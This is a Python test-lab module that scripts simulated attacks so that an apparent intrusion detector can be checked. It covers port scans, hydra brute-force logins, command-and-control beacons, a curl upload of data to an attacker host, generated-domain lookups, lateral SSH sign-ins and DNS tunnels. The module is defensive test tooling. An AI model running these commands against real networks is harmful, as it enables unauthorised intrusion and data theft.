"""What attackers do, by the tools that they would use; every parameter is drawn. Each function gets the host that it begins at, says what is
to be found (`expected`), and places it in the day. Only inside tests/lib/netns-run."""
import shutil
import signal
import subprocess
import time

from lab import DAY, HOUR, ROUTER_MAC

CLOSE = ("-s", "-k", "-o", "/dev/null", "-m", "3", "-H", "Connection: close")
PORTS = (21, 22, 23, 80, 135, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200)
SCAN_HOSTS, SCAN_PORTS, BRUTE, BEACON, UPLOAD, LONG, TUNNEL, GENERATED, LATERAL = ("scan-hosts", "scan-ports", "brute-force", "beacon", "upload", "long-flow", "dns-tunnel",
                                                                                 "generated-names", "lateral")


def whenever(dice, fast, slow=None):
    """At once, or spread over hours."""
    if slow and dice.random() < slow:
        span = dice.uniform(2, 16) * HOUR
        return "over", dice.uniform(0, DAY - span - HOUR), span
    return fast or ("at", dice.uniform(0.5, 22) * HOUR)


class Attacks:
    def __init__(self, lab, dice, inside, outside, server, control):
        """`inside`, `outside`: the hosts that are there; `server`: one that asks who one is; `control`: the attacker's own."""
        self.lab, self.dice, self.inside, self.outside, self.server, self.control = lab, dice, inside, outside, server, control
        self.family = lambda: dice.choice((4, 4, 6))

    def targets(self, host, family, most=90):
        """Addresses of the other side, of which few are somebody's."""
        dice, theirs = self.dice, 19 if host in self.inside else 18
        hosts = self.outside if theirs == 19 else self.inside
        real = [one.address(family) for one in dice.sample(hosts, min(len(hosts), 4))]
        net = dice.randrange(32, 200)
        some = [f"198.{theirs}.{net}.{i}" if family == 4 else f"2001:db8:{theirs}:{net:x}::{i:x}" for i in dice.sample(range(1, 255), dice.randrange(40, most))]
        everything = real + some
        dice.shuffle(everything)
        return everything

    def nmap(self, host, name, place, expected, *options, family=4, limit=25):
        six = ("-6",) if family == 6 else ()
        self.lab.act(host, name, place, lambda: host.run("nmap", *six, "-n", "-Pn", "--max-retries", self.dice.randrange(2), "--max-rtt-timeout", "100ms", "--min-rate", self.dice.randrange(80, 400), *options,
                                                        limit=limit), [expected])

    # ── scans ─

    def sweep_nmap(self, host):
        dice, family = self.dice, self.family()
        port, how = dice.choice(PORTS), dice.choice(("-sS", "-sS", "-sT"))
        self.nmap(host, f"nmap {how} -p {port}, many hosts, IPv{family}", whenever(dice, None, 0.5), SCAN_HOSTS, how, f"-T{dice.randrange(3, 6)}", "-p", port, *self.targets(host, family), family=family)

    def sweep_udp(self, host):
        dice, family = self.dice, self.family()
        port = dice.choice((53, 69, 111, 161, 1900, 5060))
        self.nmap(host, f"nmap -sU -p {port}, many hosts, IPv{family}", whenever(dice, None, 0.3), SCAN_HOSTS, "-sU", "-p", port, *self.targets(host, family), family=family)

    def sweep_ping(self, host):
        dice = self.dice
        targets = self.targets(host, 4)
        if dice.random() < 0.5:
            self.lab.act(host, "fping, many hosts", whenever(dice, None, 0.3), lambda: host.run("fping", "-q", "-c", 1, "-t", 100, "-i", dice.randrange(1, 8), *targets), [SCAN_HOSTS])
        else:
            self.lab.act(host, "nmap -sn -PE, many hosts", whenever(dice, None, 0.3), lambda: host.run("nmap", "-n", "-sn", "-PE", "--disable-arp-ping", "--max-retries", 0, *targets, limit=20), [SCAN_HOSTS])

    def sweep_hping(self, host):
        dice, port, theirs = self.dice, self.dice.choice(PORTS), 19 if host in self.inside else 18
        self.lab.act(host, f"hping3 --rand-dest -S -p {port}", whenever(dice, None, 0.4),
                     lambda: host.run("hping3", "-q", "-S", "-p", port, "--rand-dest", f"198.{theirs}.{dice.randrange(32, 200)}.x", "-I", "eth0", "-i", f"u{dice.randrange(1000, 9000)}", "-c", dice.randrange(50, 300), limit=10),
                     [SCAN_HOSTS])

    def sweep_masscan(self, host):
        dice, port, theirs = self.dice, self.dice.choice(PORTS), 19 if host in self.inside else 18
        net = f"198.{theirs}.{dice.randrange(32, 200)}.0/{dice.choice((25, 26))}"
        if dice.random() < 0.5 and shutil.which("zmap"):
            words = ("zmap", "-p", port, "-r", dice.randrange(100, 800), "-G", ROUTER_MAC, "-i", "eth0", "-S", host.four, "-c", 1, "-o", "/dev/null", "-b", "/dev/null", "-q", net)
        else:
            words = ("masscan", "-p", port, net, "--rate", dice.randrange(100, 800), "-e", "eth0", "--adapter-ip", host.four, "--router-mac", ROUTER_MAC.replace(":", "-"), "--wait", 1)
        self.lab.act(host, f"{words[0]} -p {port}", whenever(dice, None, 0.3), lambda: host.run(*words, limit=10), [SCAN_HOSTS])

    def ports_nmap(self, host):
        dice, family, target = self.dice, self.family(), self.dice.choice([one for one in self.inside if one is not host])
        how = dice.choice(("-sS", "-sS", "-sT", "-sU"))
        which = ("--top-ports", dice.randrange(60, 400)) if how != "-sU" else ("--top-ports", dice.randrange(30, 60))
        self.nmap(host, f"nmap {how}, ports of a host, IPv{family}", whenever(dice, None, 0.5), SCAN_PORTS, how, *which, target.address(family), family=family)

    def ports_stealth(self, host):
        dice, family, target = self.dice, self.family(), self.dice.choice([one for one in self.inside if one is not host])
        how = dice.choice(("-sN", "-sF", "-sX"))
        self.nmap(host, f"nmap {how}, ports of a host, IPv{family}", whenever(dice, None, 0.5), SCAN_PORTS, how, "--top-ports", dice.randrange(60, 300), target.address(family), family=family)

    def ports_hping(self, host):
        dice, target = self.dice, self.dice.choice([one for one in self.inside if one is not host])
        first = dice.randrange(1, 2000)
        self.lab.act(host, "hping3 --scan", whenever(dice, None, 0.4), lambda: host.run("hping3", "--scan", f"{first}-{first + dice.randrange(60, 400)}", "-S", "-I", "eth0", target.four, limit=10), [SCAN_PORTS])

    # ── sign-ins ─

    def words(self, count):
        listed = self.lab.folder / f"words-{len(self.lab.acts)}-{self.dice.randrange(1 << 30)}"
        listed.write_text("".join(f"{''.join(self.dice.choice('abcdefghijkmnpqrstuvwxyz23456789') for _ in range(self.dice.randrange(6, 12)))}\n" for _ in range(count)))
        return listed

    def hydra(self, host, service, count):
        dice, family = self.dice, self.family()
        tasks, target = dice.randrange(3, 6), self.server.address(family)
        more = ("-m", "/private") if service == "http-get" else ()
        # so many tries a minute: what servers that wait before they refuse allow
        place = "over", dice.uniform(0.5, 20) * HOUR, count / dice.uniform(45, 150) * 60
        self.lab.act(host, f"hydra {service}, IPv{family}", place, lambda: host.run("hydra", *(("-6",) if family == 6 else ()), "-I", "-l", "keeper", "-P", self.words(count), "-t", tasks, *more,
                                                                    f"{service}://{f'[{target}]' if family == 6 else target}", more={"cwd": self.lab.folder}, limit=45), [BRUTE])

    def hydra_ssh(self, host):
        self.hydra(host, "ssh", self.dice.randrange(192, 230))

    def hydra_ftp(self, host):
        self.hydra(host, "ftp", self.dice.randrange(120, 200))

    def hydra_http(self, host):
        self.hydra(host, "http-get", self.dice.randrange(80, 200))

    # ── what infected hosts do ─

    def beacon(self, host):
        dice, family = self.dice, self.family()
        jitter, count = dice.uniform(0, 0.5), dice.randrange(40, 90)
        interval = dice.uniform(30, 0.75 * DAY / count)
        times = [dice.uniform(0, 2) * HOUR]
        while len(times) < count:
            times.append(times[-1] + interval * (1 + jitter * dice.uniform(-1, 1)))
        secure = dice.random() < 0.5
        port = dice.choice(self.lab.secure if secure else self.lab.plain)
        address = self.control.address(family)
        url = f"http{'s' * secure}://{f'[{address}]' if family == 6 else address}:{port}/{dice.choice(('news', 'a', 'get.php'))}"
        self.lab.act(host, f"beacon every {interval:.0f} s ± {100 * jitter:.0f} %, port {port}, IPv{family}", ("times", times), lambda: host.run("curl", *CLOSE, "-g", *[url] * count), [BEACON], control=address)

    def upload(self, host):
        dice, family = self.dice, self.family()
        address, big = self.control.address(family), self.lab.folder / "big"
        host_part = f"[{address}]" if family == 6 else address
        self.lab.act(host, f"upload of {big.stat().st_size >> 20} MB in two parts, IPv{family}", ("over", dice.uniform(0, 15) * HOUR, dice.uniform(0, 5) * HOUR),
                     lambda: [host.run("curl", "-s", "-g", "-m", 30, "--limit-rate", "80M", "-T", big, f"http://{host_part}:9000/{i}") for i in range(2)], [UPLOAD])

    def long_connection(self, host):
        """A shell that stays, with a sign of life in between; time within it grows too."""
        dice, family = self.dice, self.family()
        address, port = self.control.address(family), self.lab.line_port
        talk = f"""
import socket, time
one = socket.create_connection(({address!r}, {port}))
for i in range(250):
    one.send(b"still here\\n"); one.recv(100); time.sleep(0.006)
"""
        span = dice.uniform(4.5, 10) * HOUR
        self.lab.act(host, f"a connection of {span / HOUR:.0f} h, IPv{family}", ("slowly", dice.uniform(0, 13) * HOUR, span), lambda: host.run("python3", "-c", talk), [LONG])

    def generated(self, host):
        """Domains that an algorithm makes; few exist."""
        dice = self.dice
        kind, size = dice.choice(("letters", "hex", "words")), dice.randrange(7, 16)
        letters = {"letters": "abcdefghijklmnopqrstuvwxyz", "hex": "0123456789abcdef"}
        parts = ("blue", "river", "stone", "cloud", "seven", "north", "glass", "field", "paper", "light", "green", "house", "water", "table")
        names = []
        for _ in range(dice.randrange(50, 120)):
            word = "".join(dice.choice(parts) for _ in range(3)) if kind == "words" else "".join(dice.choice(letters[kind]) for _ in range(size))
            names.append(f"{word}.{dice.choice(('com', 'net', 'info', 'org', 'biz'))}")
        names[dice.randrange(len(names))] = "www.site3.example"
        listed = self.lab.folder / f"generated-{len(self.lab.acts)}-{dice.randrange(1 << 30)}"
        listed.write_text("\n".join(names) + "\n")
        self.lab.act(host, f"{len(names)} generated names of {kind}", ("over", dice.uniform(0, 22) * HOUR, len(names) * dice.uniform(0.5, 8)), lambda: host.run("dig", "@198.18.0.53", "+tries=1", "+time=2", "-f", listed), [GENERATED])

    def lateral(self, host):
        dice = self.dice
        hosts = dice.sample([one for one in self.inside if one.name.startswith("server")], 6)

        def work():
            for one in hosts:
                host.run("dbclient", "-y", "-y", "-i", self.lab.folder / "key", f"keeper@{one.four}", "uptime", more={"env": {"HOME": str(self.lab.folder), "PATH": "/usr/bin:/usr/sbin:/bin:/sbin"}})
        self.lab.act(host, "signs in to six servers", ("over", dice.uniform(0, 22) * HOUR, dice.uniform(200, 3000)), work, [LATERAL])

    # ── tunnels ─

    def tunnel_iodine(self, host):
        dice, direct = self.dice, self.dice.random() < 0.5
        words = ["iodine", "-f", "-r", "-P", "secret", "-T", dice.choice(("NULL", "TXT", "SRV", "MX", "CNAME")), "-M", dice.randrange(150, 255), "-I", "1"]
        process = []

        def work():
            process.append(host.start(*words, self.control.four if direct else "198.18.0.53", "t.tunnel.example"))
            for _ in range(100):  # until the way is there
                if host.run("fping", "-q", "-c", 1, "-t", 200, "198.18.240.1", limit=3).returncode == 0:
                    break
                time.sleep(0.1)
            host.run("fping", "-q", "-c", 60, "-p", 15, "-b", dice.randrange(100, 800), "-t", 300, "198.18.240.1", limit=6)
            process[0].send_signal(signal.SIGTERM)
            process[0].wait()
        self.lab.act(host, f"iodine -T {words[6]}, {'direct' if direct else 'by the resolver'}", ("at", dice.uniform(0, 23) * HOUR), work, [TUNNEL], (self.lab.names.four, self.control.four))

    def tunnel_dns2tcp(self, host):
        dice = self.dice
        port = dice.randrange(20000, 30000)

        def work():
            process = host.start("dns2tcpc", "-z", "d.tunnel2.example", "-k", "secret", "-r", "lines", "-l", port, "198.18.0.53")
            host.listens(tcp=[port], limit=20)
            script = f"printf '%s\\n' {' '.join('x' * dice.randrange(20, 300) for _ in range(40))} | timeout 5 curl -s -m 4 telnet://127.0.0.1:{port}"
            host.run("sh", "-c", script, limit=7)
            process.terminate()
            process.wait()
        self.lab.act(host, "dns2tcp", ("at", dice.uniform(0, 23) * HOUR), work, [TUNNEL], (self.lab.names.four, self.control.four))


CATALOGUE = {  # who does it → what, one of each line is drawn for the small lab
    "outside": (("sweep_nmap", "sweep_udp"), ("sweep_hping", "sweep_masscan", "sweep_ping"), ("ports_nmap", "ports_hping"), ("ports_stealth",), ("hydra_ssh", "hydra_ftp", "hydra_http")),
    "inside": (("sweep_nmap", "sweep_masscan", "sweep_udp"), ("beacon",), ("beacon",), ("upload",), ("long_connection",), ("generated",), ("lateral",), ("tunnel_iodine", "tunnel_dns2tcp")),
}
